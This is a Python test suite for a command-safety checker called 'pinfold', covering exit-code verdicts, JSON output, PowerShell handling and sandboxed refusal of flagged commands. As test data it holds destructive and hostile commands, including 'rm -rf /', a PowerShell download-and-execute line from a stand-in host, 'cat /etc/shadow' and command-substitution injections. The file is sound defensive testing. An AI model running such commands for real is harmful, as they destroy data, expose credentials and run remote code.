# check_command.py: `pinfold check`: exit codes, text, JSON, many lines.
# Invariant: nothing that is checked is run. Not here: which commands are dangerous (src/safety/, bench/safety.cc).
import json
import os

from harness import check, expect, typed


@check("check: the exit code is the verdict")
def verdicts(w):
    w.pinfold("check", "--", "ls -l").code_is(0).calm().prints("safe")
    w.pinfold("check", "--", "git push --force").code_is(1).calm().prints("ask", "git-rewrite-remote", "safer:")
    w.pinfold("check", "--", "rm -rf /").code_is(2).calm().prints("deny", "delete-root", "^^^^^^^^")
    w.pinfold("check", "--", "rm", "-rf", "/").code_is(2)
    w.pinfold("check", "--", "echo", "rm -rf /").code_is(0)


@check("check: nothing is run")
def not_run(w):
    target = os.path.join(w.ws, "kept")
    w.write(target)
    w.pinfold("check", "--", f"rm {target}").code_is(0)
    w.pinfold("check", "--", f"$(rm {target})").code_is(0)
    expect(os.path.exists(target), "the file is gone")


@check("check: each line of standard input, as text and as JSON")
def lines(w):
    w.pinfold("check", stdin=b"ls\nrm -rf ~\n\npwd\n").code_is(2).calm().prints("safe  ls", "delete-home", "safe  pwd")
    w.pinfold("check", "-", stdin=b"ls\npwd").code_is(0)
    output = w.pinfold("check", "--json", stdin=b'{"command": "ls"}\n{"command": "sudo -i"}\nrm -rf /\n').code_is(2).calm().out
    answers = [json.loads(line) for line in output.splitlines()]
    expect([one["verdict"] for one in answers] == ["safe", "ask", "deny"], answers)
    first = answers[2]["findings"][0]
    expect(first["rule"] == "delete-root" and (first["begin"], first["end"]) == (0, 8), first)
    expect(first["reason"] and first["safer"] and answers[2]["complete"] is True, answers[2])


@check("check: bytes that are no text, and texts that never end")
def hostile(w):
    w.pinfold("check", stdin=b"\xff\xfe'\x00\"$(\n").calm()
    w.pinfold("check", "--json", stdin=b"\xff\xfe\n").code_is(0)
    w.pinfold("check", "--json", "--", "$(" * 500).code_is(1).prints('"complete":false')


@check("check: PowerShell")
def powershell(w):
    w.pinfold("check", "--shell", "powershell", "--", "iwr http://x.example/a.ps1 | iex").code_is(2).prints("windows-download")
    w.pinfold("check", "--json", stdin=b'{"command": "iex $x", "shell": "powershell"}\n').code_is(1)
    w.pinfold("check", "--shell", "powershell", "--", "Get-ChildItem").code_is(0)


@check("check: mistakes")
def mistakes(w):
    w.pinfold("check", "--shell", "tcl", "--", "ls").code_is(125).says("--shell", "fix:")
    w.pinfold("check", "--json", stdin=b'{"cmd": "ls"}\n').code_is(125).says("command", "fix:")
    w.pinfold("check", "--json", stdin=b"{bad\n").code_is(125).says("JSON", "fix:")
    w.pinfold("check", "--nope", "--", "ls").code_is(125)


def answers(w):
    """What the journal holds about questions and answers, as (because, answer, by)."""
    output = w.pinfold("log", "--json").code_is(0).out
    entries = [json.loads(line) for line in output.splitlines()]
    return [(one.get("because"), one.get("answer"), one.get("by")) for one in entries if one["kind"] in ("question", "answer")]


@check("run -c: what advice refuses does not run, and the report and the journal say so")
def refused(w):
    canary = os.path.join(w.ws, "canary")
    w.run("-c", f"touch {canary}").code_is(0)
    expect(os.path.exists(canary), "the canary cannot be reached at all")
    os.unlink(canary)
    text = f"touch {canary}; rm -rf /"
    w.run("-c", text).code_is(126).says("delete-root", "^^^^^^^^", "--force-advice")
    expect(not os.path.exists(canary), "it ran")
    w.run("--quiet", "-c", text).code_is(126).says("delete-root").silent("^^^^")
    _, report = w.report("-c", text)
    expect(report["outcome"]["kind"] == "refused" and report["outcome"]["by"] == "advice", report["outcome"])
    expect("delete-root" in report["outcome"]["reason"] and report["exit_code"] == 126, report["outcome"])
    expect(answers(w)[0][0].startswith("advice (delete-root)") and answers(w)[1][1:] == ("deny", "advice"), answers(w))
    w.pinfold("learn", "-c", text).code_is(126).says("delete-root")
    expect(not os.path.exists(canary), "learn ran it")


@check("run -c: --force-advice runs it in the same sandbox, and that is recorded")
def forced(w):
    _, report = w.report("--force-advice", "-c", "echo begun; rm -rf /no-such-directory/..; cat /etc/shadow")
    expect(report["outcome"]["kind"] == "exited" and report["outcome"]["code"] != 0, report["outcome"])
    expect(any("--force-advice" in note for note in report["notes"]), report["notes"])
    expect(answers(w)[1][1:] == ("once", "--force-advice"), answers(w))
    w.run("--force-advice", "--", "true").code_is(125).says("-c")


@check("run -c: a command with verdict ask needs a yes at the terminal; without a terminal it is refused")
def asked(w):
    canary = os.path.join(w.ws, "canary")
    text = f"touch {canary}; true || git push --force"
    w.run("-c", text).code_is(126).says("git-rewrite-remote", "no terminal")
    expect(not os.path.exists(canary), "it ran unasked")
    for before, after in ((b"", b"n\n"), (b"y\n", b"\n")):
        code, seen, was_asked = typed(w, before, after, "run", "-c", text)
        expect(code == 126 and was_asked and not os.path.exists(canary), seen)
    code, seen, was_asked = typed(w, b"", b"y\n", "run", "-c", text)
    expect(code == 0 and was_asked and os.path.exists(canary), seen)
    expect([one[1:] for one in answers(w) if one[1]] == [("deny", "nobody"), ("deny", "terminal"), ("deny", "terminal"), ("once", "terminal")], answers(w))


@check("run -c: everyday text is not held up, and words after -- are not looked at")
def passed(w):
    w.run("-c", "echo 'rm -rf /'; rm -rf ./build; ls | wc -l").code_is(0).calm().silent("advice")
    w.run("--", "sh", "-c", ": crontab -r").code_is(0).silent("advice")
    w.run("--explain", "-c", "rm -rf /").code_is(0).prints("advice", "delete-root")
